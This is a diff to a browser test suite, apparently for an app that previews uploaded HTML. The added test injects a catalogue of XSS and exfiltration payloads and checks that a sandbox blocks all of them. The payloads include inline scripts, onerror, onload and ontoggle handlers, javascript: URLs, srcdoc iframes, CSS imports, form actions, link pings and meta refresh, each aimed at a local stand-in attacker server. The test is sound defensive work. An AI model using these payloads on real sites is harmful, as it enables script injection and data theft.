@@ -127,6 +127,47 @@ describe('a document that tries to get out', () => {
     await page.getByText('Imported').first().waitFor()
   })
 
+  it('runs nothing and goes nowhere when its scripts are stopped', async () => {
+    await using sink = await startSink()
+    await using test = await open()
+    const { page, server } = test
+    const { session_id } = await call(server.url, '/api/sessions', 'POST')
+    const { url: evil } = sink
+    const send = `document.title = 'ran'; fetch('${evil}/fetch'); ${connect(sink.port)}`
+    const quoted = send.replaceAll('"', '&quot;')
+    const html = `<!doctype html><title>Still</title><h1>Still</h1><script>${send}</script>
+      <script nonce="">${send}</script><img src="x" onerror="${quoted}"><svg onload="${quoted}"></svg>
+      <details open ontoggle="${quoted}"></details><iframe srcdoc="<script>${quoted}</script>"></iframe>
+      <iframe src="javascript:${quoted}"></iframe><object data="${evil}/object"></object><embed src="${evil}/embed">
+      <img src="${evil}/img"><link rel="stylesheet" href="${evil}/css"><link rel="prefetch" href="${evil}/prefetch">
+      <style>@import url(${evil}/import); body { background: url(${evil}/bg) }</style>
+      <form action="${evil}/form"><button>Send</button></form>
+      <a href="javascript:${quoted}">Link</a><a ping="${evil}/ping" href="#top">Ping</a>`
+    const { id } = await call(server.url, `/api/sessions/${session_id}/documents`, 'POST', { html })
+    await page.goto(server.url)
+    await page.evaluate((key) => localStorage.setItem(key, 'yes'), `still:${id}`)
+    await page.goto(`${server.url}/s/${session_id}`)
+    await page.locator('.frames iframe:not(.waiting)[src*="scripts=off"]').waitFor()
+    await heading(page, 'Still').waitFor()
+    for (const name of ['Link', 'Ping'])
+      await preview(page).getByText(name, { exact: true }).click()
+    await preview(page).getByRole('button', { name: 'Send' }).click()
+    assert.equal(await heading(page, 'Still').evaluate(() => document.title), 'Still')
+    const nonces = await preview(page)
+      .locator('script')
+      .evaluateAll((scripts) => scripts.map((script) => script.nonce))
+    assert.deepEqual(nonces, ['', ''], 'the bridge is gone, with its nonce')
+    assert.deepEqual(sink.hits, [])
+
+    // A page that leaves by itself is stopped for good.
+    const leaving = `<title>Leaving</title><h1>Leaving</h1><meta http-equiv="refresh" content="0; url=${evil}/refresh">`
+    await call(server.url, `/api/sessions/${session_id}/documents`, 'POST', { html: leaving })
+    await page.goto(`${server.url}/s/${session_id}`)
+    await page.locator('.frames iframe[sandbox=""]').waitFor()
+    await heading(page, 'Leaving').waitFor()
+    assert.deepEqual(sink.hits, [])
+  })
+
   it('connects to no other browser', async () => {
     await using sink = await startSink()
     await using test = await open()
@@ -201,11 +242,11 @@ describe('a document that tries to get out', () => {
     assert.equal(await input.inputValue(), 'yours')
     await input.evaluate(() => (document.title = 'go'))
     await page.getByText('its scripts were stopped').waitFor()
-    await page.locator('.frames iframe[sandbox=""]').waitFor()
+    await page.locator('.frames iframe:not(.waiting)[src*="scripts=off"]').waitFor()
     await box(page).pressSequentially(' two')
     assert.equal(await box(page).inputValue(), 'one two')
     await page.getByRole('button', { name: 'Run the document’s scripts' }).click()
-    await page.locator('.frames iframe[sandbox="allow-scripts"]').waitFor()
+    await page.locator('.frames iframe:not(.waiting):not([src*="scripts=off"])').waitFor()
   })
 
   it('does not hold up the app by an endless loop', async () => {
